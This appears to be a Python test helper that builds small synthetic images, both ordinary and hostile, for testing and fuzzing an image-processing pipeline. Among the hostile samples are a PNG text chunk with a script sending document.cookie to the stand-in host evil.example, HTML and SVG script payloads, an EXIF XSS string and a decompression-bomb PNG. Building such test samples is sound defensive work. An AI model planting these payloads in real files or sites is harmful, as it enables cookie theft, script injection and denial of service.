"""Small synthetic benign and hostile images, generated on the fly (tests, demo, fuzz seeds).

Nothing here is downloaded: every file is built from a few lines of Pillow or
raw bytes, so the samples are free of licence questions and tiny.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Mapping
from types import MappingProxyType

import numpy as np
from PIL import Image, PngImagePlugin

__all__ = ["SAMPLES", "gradient", "jpeg", "png", "png_chunk"]


def gradient(width: int = 64, height: int = 48, seed: int = 0) -> Image.Image:
    """A photo-like RGB image: smooth gradients plus a little noise."""
    rng = np.random.default_rng(seed)
    y, x = np.mgrid[0:height, 0:width].astype(np.float32)
    r = 255 * x / max(width - 1, 1)
    g = 255 * y / max(height - 1, 1)
    b = 128 + 100 * np.sin((x + y) / 9.0)
    arr = np.stack([r, g, b], axis=-1) + rng.normal(0, 6, (height, width, 3))
    return Image.fromarray(np.clip(arr, 0, 255).astype(np.uint8))


def jpeg(im: Image.Image | None = None, **save: object) -> bytes:
    """Encode ``im`` (default: a gradient) as JPEG."""
    buf = io.BytesIO()
    (im or gradient()).save(buf, "JPEG", quality=90, **save)
    return buf.getvalue()


def png(im: Image.Image | None = None, **save: object) -> bytes:
    """Encode ``im`` (default: a gradient) as PNG."""
    buf = io.BytesIO()
    (im or gradient()).save(buf, "PNG", **save)
    return buf.getvalue()


def png_chunk(ctype: bytes, body: bytes) -> bytes:
    """One PNG chunk with a correct CRC."""
    return struct.pack(">I", len(body)) + ctype + body + struct.pack(">I", zlib.crc32(ctype + body))


def declared_huge_png(width: int = 60000, height: int = 60000) -> bytes:
    """A 100-byte PNG whose header declares ``width x height`` (a decompression bomb)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 64)
    chunks = png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def png_text_script() -> bytes:
    """A PNG whose tEXt chunk carries a script."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", '<script>fetch("//evil.example/"+document.cookie)</script>')
    return png(gradient(32, 32, 1), pnginfo=info)


def jpeg_trailing_html() -> bytes:
    """A JPEG that is also an HTML page: markup after the EOI marker (a polyglot)."""
    return jpeg(gradient(32, 32, 2)) + b"<html><body><script>alert(document.domain)</script></body></html>"


def jpeg_exif_gps_orientation() -> bytes:
    """A JPEG with EXIF orientation 6 (rotate 90) and a GPS position."""
    im = gradient(40, 20, 3)
    exif = im.getexif()
    exif[0x0112] = 6
    exif[0x010E] = "<img src=x onerror=alert(1)>"  # ImageDescription
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (48.0, 51.0, 29.0), "E", (2.0, 17.0, 40.0)
    return jpeg(im, exif=exif.tobytes())


def animated_gif(frames: int = 3) -> bytes:
    """A small animated GIF."""
    ims = [gradient(16, 16, i).rotate(90 * i) for i in range(frames)]
    buf = io.BytesIO()
    ims[0].save(buf, "GIF", save_all=True, append_images=ims[1:], duration=50, loop=0)
    return buf.getvalue()


def transparent_png() -> bytes:
    """An RGBA PNG whose fully transparent pixels hide a bright pattern."""
    arr = np.zeros((16, 16, 4), np.uint8)
    arr[..., 0] = 255  # red everywhere...
    arr[:8, :, 3] = 255  # ...but only the top half is visible
    return png(Image.fromarray(arr))


def truncated_png() -> bytes:
    """A PNG cut in the middle of its image data."""
    data = png(gradient(64, 64, 4))
    return data[: len(data) // 2]


def svg_script() -> bytes:
    """An SVG image with a script: never allowed."""
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'


SAMPLES: Mapping[str, Callable[[], bytes]] = MappingProxyType({
    "gradient.jpg": lambda: jpeg(gradient(64, 48)),
    "gradient.png": lambda: png(gradient(64, 48)),
    "text_script.png": png_text_script,
    "trailing_html.jpg": jpeg_trailing_html,
    "declared_huge.png": declared_huge_png,
    "exif_gps_orientation.jpg": jpeg_exif_gps_orientation,
    "animated.gif": animated_gif,
    "transparent.png": transparent_png,
    "truncated.png": truncated_png,
    "script.svg": svg_script,
})
